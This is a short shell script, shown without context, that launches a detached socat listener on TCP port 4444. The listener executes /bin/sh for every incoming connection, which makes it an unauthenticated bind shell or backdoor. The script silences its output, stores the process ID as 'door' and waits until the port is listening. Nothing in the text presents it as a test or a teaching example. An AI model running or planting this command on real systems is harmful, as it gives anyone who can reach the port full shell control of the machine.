setsid socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh </dev/null >/dev/null 2>&1 9>&- &
door=$!
echo pid $door
for turn in $(seq 200); do
    ss -ltn | grep -q :4444 && break
    kill -0 $door || break
    sleep 0.5
done
